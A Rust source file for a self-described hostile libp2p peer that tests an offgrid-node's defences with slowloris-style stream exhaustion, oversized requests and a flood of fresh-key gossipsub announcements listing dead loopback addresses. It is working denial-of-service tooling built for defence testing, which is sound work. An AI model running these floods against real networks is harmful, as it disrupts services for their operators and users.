//! A hostile peer: dials a victim node and runs one attack, then stops by itself and prints
//! what it did as one JSON line on stdout.
//!
//! - `--attack streams`: on each of `--connections` connections (each with a fresh key),
//!   keeps `--streams` requests open on every request-response protocol of the node
//!   (auction, shards, ledger sync), cycling through three shapes: a request just under the
//!   protocol's cap sent at once and then held open without an end (so a reader that waits
//!   for the end holds it all), a request that trickles one byte a second (slowloris), and
//!   one past the cap. A stream the victim drops is opened again, at most `--rate` a second
//!   per connection.
//! - `--attack announce`: publishes `--count` announcements on `offgrid/announce/1`, each
//!   signed by a fresh key, spread over `--connections` connections (fresh keys too, so
//!   that a per-forwarder rate limit meets many forwarders). Each lists a loopback address
//!   nobody listens on, to tempt the victim into dialling.
//!
//! It speaks the protocols with plain libp2p (TCP, Noise, Yamux), as any stranger could.

use std::{
    collections::HashMap,
    io,
    sync::atomic::{AtomicU64, Ordering},
    time::{Duration, Instant},
};

use anyhow::{bail, Context as _};
use clap::{Parser, ValueEnum};
use libp2p::{
    futures::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt, StreamExt},
    gossipsub, identity,
    multiaddr::Protocol,
    noise,
    request_response::{self, OutboundRequestId, ProtocolSupport},
    swarm::{NetworkBehaviour, SwarmEvent},
    tcp, yamux, Multiaddr, PeerId, StreamProtocol, Swarm,
};
use offgrid_behaviours::{
    announce::{self, Announcement, Capacity},
    auction, ledger_sync, shards,
};

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
enum Attack {
    Streams,
    Announce,
}

/// Command line.
#[derive(Debug, Parser)]
#[command(about = "A hostile peer for testing an offgrid-node's defences")]
struct Args {
    /// The victim: a multiaddr ending in /p2p/<peer id>.
    #[arg(long)]
    target: Multiaddr,
    /// Which attack.
    #[arg(long, value_enum)]
    attack: Attack,
    /// Connections, each with a fresh key.
    #[arg(long, default_value_t = 8)]
    connections: usize,
    /// Streams attack: how long, seconds.
    #[arg(long, default_value_t = 20)]
    duration_s: u64,
    /// Streams attack: requests kept open per protocol and connection.
    #[arg(long, default_value_t = 64)]
    streams: usize,
    /// Streams attack: most new streams per second per connection.
    #[arg(long, default_value_t = 200)]
    rate: u32,
    /// Streams attack: which shapes, of `fill`, `trickle`, `oversized` (all by default).
    #[arg(long, value_delimiter = ',', default_value = "fill,trickle,oversized")]
    shapes: Vec<String>,
    /// Streams attack: which protocols, of `auction`, `shards`, `sync` (all by default).
    #[arg(long, value_delimiter = ',', default_value = "auction,shards,sync")]
    protocols: Vec<String>,
    /// Announce attack: announcements in all.
    #[arg(long, default_value_t = 10_000)]
    count: usize,
}

/// What one outbound request of the flood puts on the wire.
#[derive(Debug, Clone, Copy)]
enum Shape {
    /// `bytes` at once, then nothing and no end for `hold`.
    Fill { bytes: u64, hold: Duration },
    /// One byte a second for `hold`.
    Trickle { hold: Duration },
    /// `bytes` (past the cap) at once, then the end.
    Oversized { bytes: u64 },
}

/// Bytes put on the wire by all floods of this process.
static SENT: AtomicU64 = AtomicU64::new(0);

/// The flood's codec: writes a [`Shape`], reads whatever answer comes to its end.
#[derive(Debug, Clone, Default)]
struct Flood;

static ZEROS: [u8; 64 * 1024] = [0; 64 * 1024];

async fn write_zeros<T: AsyncWrite + Unpin>(io: &mut T, mut n: u64) -> io::Result<()> {
    while n > 0 {
        let k = n.min(ZEROS.len() as u64) as usize;
        io.write_all(&ZEROS[..k]).await?;
        SENT.fetch_add(k as u64, Ordering::Relaxed);
        n -= k as u64;
    }
    io.flush().await
}

impl request_response::Codec for Flood {
    type Protocol = StreamProtocol;
    type Request = Shape;
    type Response = ();

    async fn read_request<T>(&mut self, _: &StreamProtocol, _: &mut T) -> io::Result<Shape>
    where
        T: AsyncRead + Unpin + Send,
    {
        Err(io::Error::other("the hostile peer serves nothing"))
    }

    async fn read_response<T>(&mut self, _: &StreamProtocol, io: &mut T) -> io::Result<()>
    where
        T: AsyncRead + Unpin + Send,
    {
        let mut buf = [0u8; 4096];
        while io.read(&mut buf).await? > 0 {}
        Ok(())
    }

    async fn write_request<T>(&mut self, _: &StreamProtocol, io: &mut T, s: Shape) -> io::Result<()>
    where
        T: AsyncWrite + Unpin + Send,
    {
        match s {
            Shape::Fill { bytes, hold } => {
                // A CBOR byte string header claiming the whole length, then zeros.
                let head = [0x5a];
                io.write_all(&head).await?;
                io.write_all(&(bytes as u32).to_be_bytes()).await?;
                write_zeros(io, bytes.saturating_sub(5)).await?;
                futures_timer::Delay::new(hold).await;
            }
            Shape::Trickle { hold } => {
                let end = Instant::now() + hold;
                while Instant::now() < end {
                    io.write_all(&[0x5a]).await?;
                    io.flush().await?;
                    SENT.fetch_add(1, Ordering::Relaxed);
                    futures_timer::Delay::new(Duration::from_secs(1)).await;
                }
            }
            Shape::Oversized { bytes } => write_zeros(io, bytes).await?,
        }
        Ok(())
    }

    async fn write_response<T>(&mut self, _: &StreamProtocol, _: &mut T, _: ()) -> io::Result<()>
    where
        T: AsyncWrite + Unpin + Send,
    {
        Ok(())
    }
}

#[derive(NetworkBehaviour)]
struct Behaviour {
    auction: request_response::Behaviour<Flood>,
    shards: request_response::Behaviour<Flood>,
    sync: request_response::Behaviour<Flood>,
    gossipsub: gossipsub::Behaviour,
}

fn flood(protocol: StreamProtocol, timeout: Duration) -> request_response::Behaviour<Flood> {
    request_response::Behaviour::with_codec(
        Flood,
        [(protocol, ProtocolSupport::Outbound)],
        request_response::Config::default()
            .with_request_timeout(timeout)
            .with_max_concurrent_streams(4096),
    )
}

fn swarm(timeout: Duration) -> anyhow::Result<Swarm<Behaviour>> {
    let gossip = gossipsub::ConfigBuilder::default()
        .validation_mode(gossipsub::ValidationMode::None)
        // Unsigned messages have no source or seqno: the default id would be one for all.
        .message_id_fn(|m| {
            use std::hash::{Hash, Hasher};
            let mut h = std::collections::hash_map::DefaultHasher::new();
            m.data.hash(&mut h);
            gossipsub::MessageId::from(h.finish().to_be_bytes().to_vec())
        })
        .heartbeat_interval(Duration::from_millis(500))
        .max_transmit_size(256 * 1024)
        .connection_handler_queue_len(50_000)
        .mesh_n_low(1)
        .mesh_outbound_min(0)
        .build()
        .map_err(|e| anyhow::anyhow!("gossipsub config: {e}"))?;
    let swarm = libp2p::SwarmBuilder::with_new_identity()
        .with_tokio()
        .with_tcp(
            tcp::Config::default().nodelay(true),
            noise::Config::new,
            || {
                let mut y = yamux::Config::default();
                y.set_max_num_streams(4096);
                y
            },
        )?
        .with_behaviour(|_| {
            Ok(Behaviour {
                auction: flood(auction::PROTOCOL_NAME, timeout),
                shards: flood(shards::PROTOCOL_NAME, timeout),
                sync: flood(ledger_sync::PROTOCOL_NAME, timeout),
                gossipsub: gossipsub::Behaviour::new(
                    gossipsub::MessageAuthenticity::Anonymous,
                    gossip,
                )?,
            })
        })?
        .with_swarm_config(|c| c.with_idle_connection_timeout(timeout))
        .build();
    Ok(swarm)
}

/// Counters of one connection's attack.
#[derive(Debug, Default, Clone, Copy)]
struct Tally {
    opened: u64,
    failed: u64,
    published: u64,
    publish_errors: u64,
    connected: bool,
}

#[tokio::main(flavor = "current_thread")]
async fn main() -> anyhow::Result<()> {
    let args = Args::parse();
    let Some(Protocol::P2p(victim)) = args.target.iter().last() else {
        bail!("--target must end in /p2p/<peer id>");
    };
    let started = Instant::now();
    let mut tasks = tokio::task::JoinSet::new();
    let per = args.count.div_ceil(args.connections.max(1));
    for i in 0..args.connections.max(1) {
        let target = args.target.clone();
        let (attack, duration) = (args.attack, Duration::from_secs(args.duration_s));
        let plan = Plan {
            duration,
            per_protocol: args.streams,
            rate: args.rate.max(1),
            shapes: pick(&args.shapes, &["fill", "trickle", "oversized"])?,
            protocols: pick(&args.protocols, &["auction", "shards", "sync"])?,
        };
        let count = per.min(args.count.saturating_sub(i * per));
        tasks.spawn(async move {
            let mut s = swarm(duration + Duration::from_secs(5))?;
            s.dial(target).context("dialling the victim")?;
            match attack {
                Attack::Streams => streams_attack(&mut s, victim, &plan).await,
                Attack::Announce => announce_attack(&mut s, victim, count).await,
            }
        });
    }
    let mut all = Tally::default();
    let mut connected = 0;
    while let Some(r) = tasks.join_next().await {
        let t = r.context("attack task")??;
        all.opened += t.opened;
        all.failed += t.failed;
        all.published += t.published;
        all.publish_errors += t.publish_errors;
        connected += usize::from(t.connected);
    }
    println!(
        "{}",
        serde_json::json!({
            "attack": format!("{:?}", args.attack).to_lowercase(),
            "connected_at_end": connected,
            "streams_opened": all.opened,
            "streams_failed": all.failed,
            "bytes_sent": SENT.load(Ordering::Relaxed),
            "published": all.published,
            "publish_errors": all.publish_errors,
            "seconds": started.elapsed().as_secs_f64(),
        })
    );
    Ok(())
}

/// The shapes sent on a protocol whose requests are capped at `cap` bytes, in turn.
fn shapes(cap: u64, hold: Duration) -> [Shape; 3] {
    [
        Shape::Fill {
            bytes: cap - 1,
            hold,
        },
        Shape::Trickle { hold },
        Shape::Oversized {
            bytes: cap + 64 * 1024,
        },
    ]
}

/// What the streams attack does.
#[derive(Debug, Clone)]
struct Plan {
    duration: Duration,
    per_protocol: usize,
    rate: u32,
    /// Indices into [`shapes`].
    shapes: Vec<usize>,
    /// Indices into auction, shards, sync.
    protocols: Vec<usize>,
}

/// The indices of `names` in `all`.
fn pick(names: &[String], all: &[&str]) -> anyhow::Result<Vec<usize>> {
    names
        .iter()
        .map(|n| {
            all.iter()
                .position(|a| a == n)
                .with_context(|| format!("unknown {n:?}: one of {all:?}"))
        })
        .collect()
}

async fn streams_attack(
    s: &mut Swarm<Behaviour>,
    victim: PeerId,
    plan: &Plan,
) -> anyhow::Result<Tally> {
    let end = tokio::time::Instant::now() + plan.duration;
    let caps = [
        auction::MAX_REQUEST_BYTES,
        shards::MAX_REQUEST_BYTES,
        ledger_sync::MAX_REQUEST_BYTES,
    ];
    // Requests in flight: id → protocol index.
    let mut open: HashMap<OutboundRequestId, usize> = HashMap::new();
    let mut in_flight = [0usize; 3];
    let mut turn = 0usize;
    let mut t = Tally::default();
    let mut tick = tokio::time::interval(Duration::from_secs(1) / plan.rate);
    loop {
        tokio::select! {
            _ = tokio::time::sleep_until(end) => break,
            _ = tick.tick(), if t.connected => {
                // One new stream on the protocol with the fewest open.
                let Some(p) = plan
                    .protocols
                    .iter()
                    .copied()
                    .filter(|p| in_flight[*p] < plan.per_protocol)
                    .min_by_key(|p| in_flight[*p])
                else {
                    continue;
                };
                let left = end.saturating_duration_since(tokio::time::Instant::now());
                let shape = shapes(caps[p], left)[plan.shapes[turn % plan.shapes.len()]];
                turn += 1;
                let b = s.behaviour_mut();
                let id = match p {
                    0 => b.auction.send_request(&victim, shape),
                    1 => b.shards.send_request(&victim, shape),
                    _ => b.sync.send_request(&victim, shape),
                };
                open.insert(id, p);
                in_flight[p] += 1;
                t.opened += 1;
            }
            ev = s.select_next_some() => {
                let done = match ev {
                    SwarmEvent::ConnectionEstablished { peer_id, .. } if peer_id == victim => {
                        t.connected = true;
                        None
                    }
                    SwarmEvent::ConnectionClosed { peer_id, num_established: 0, .. } if peer_id == victim => {
                        t.connected = false;
                        open.clear();
                        in_flight = [0; 3];
                        if tokio::time::Instant::now() < end {
                            let _ = s.dial(victim);
                        }
                        None
                    }
                    SwarmEvent::Behaviour(BehaviourEvent::Auction(e))
                    | SwarmEvent::Behaviour(BehaviourEvent::Shards(e))
                    | SwarmEvent::Behaviour(BehaviourEvent::Sync(e)) => finished(e),
                    _ => None,
                };
                if let Some((id, failed)) = done {
                    if let Some(p) = open.remove(&id) {
                        in_flight[p] -= 1;
                        t.failed += u64::from(failed);
                    }
                }
            }
        }
    }
    Ok(t)
}

/// The request an event finishes, and whether it failed.
fn finished(e: request_response::Event<Shape, ()>) -> Option<(OutboundRequestId, bool)> {
    match e {
        request_response::Event::Message {
            message: request_response::Message::Response { request_id, .. },
            ..
        } => Some((request_id, false)),
        request_response::Event::OutboundFailure { request_id, .. } => Some((request_id, true)),
        _ => None,
    }
}

fn fake_announcement(key: &identity::Keypair, i: usize) -> anyhow::Result<Vec<u8>> {
    let now_ms = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)?
        .as_millis() as u64;
    let ann = Announcement {
        node_id: key.public().to_peer_id().to_string(),
        seq: 1,
        active: true,
        prices: [("echo".to_owned(), 1u64)].into_iter().collect(),
        job_types: vec!["echo".into()],
        min_oncall_percent: 100,
        burst_percent_max: 100,
        burst: 64,
        capacity: Capacity {
            cpu_cores: 64,
            storage_bytes: 1 << 40,
        },
        // Loopback ports nobody listens on (below 1024, never ephemeral).
        listen_addrs: vec![format!("/ip4/127.0.0.1/tcp/{}", 1 + i % 1000)],
        issued_at_ms: now_ms,
    };
    Ok(ann.sign(key)?.to_wire())
}

async fn announce_attack(
    s: &mut Swarm<Behaviour>,
    victim: PeerId,
    count: usize,
) -> anyhow::Result<Tally> {
    let topic = gossipsub::IdentTopic::new(announce::TOPIC);
    s.behaviour_mut().gossipsub.subscribe(&topic)?;
    let mut t = Tally::default();
    // Wait (bounded) until the victim is subscribed: publishing before that reaches nobody.
    let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
    let mut subscribed = false;
    while !subscribed {
        let ev = tokio::time::timeout_at(deadline, s.select_next_some())
            .await
            .context("the victim never subscribed to the announce topic")?;
        match ev {
            SwarmEvent::ConnectionEstablished { peer_id, .. } if peer_id == victim => {
                t.connected = true
            }
            SwarmEvent::Behaviour(BehaviourEvent::Gossipsub(gossipsub::Event::Subscribed {
                peer_id,
                ..
            })) if peer_id == victim => subscribed = true,
            _ => {}
        }
    }
    let mut i = 0;
    let mut pause = tokio::time::interval(Duration::from_millis(5));
    while i < count {
        // Publish a batch, then let the swarm send it before the next.
        for _ in 0..50.min(count - i) {
            let key = identity::Keypair::generate_ed25519();
            match s
                .behaviour_mut()
                .gossipsub
                .publish(topic.clone(), fake_announcement(&key, i)?)
            {
                Ok(_) => t.published += 1,
                Err(e) => {
                    if t.publish_errors == 0 {
                        eprintln!("publish failed: {e}");
                    }
                    t.publish_errors += 1
                }
            }
            i += 1;
        }
        let tick = pause.tick();
        tokio::pin!(tick);
        loop {
            tokio::select! {
                _ = &mut tick => break,
                _ = s.select_next_some() => {}
            }
        }
    }
    // Let the last messages leave.
    let linger = tokio::time::sleep(Duration::from_secs(2));
    tokio::pin!(linger);
    loop {
        tokio::select! {
            _ = &mut linger => break,
            _ = s.select_next_some() => {}
        }
    }
    Ok(t)
}
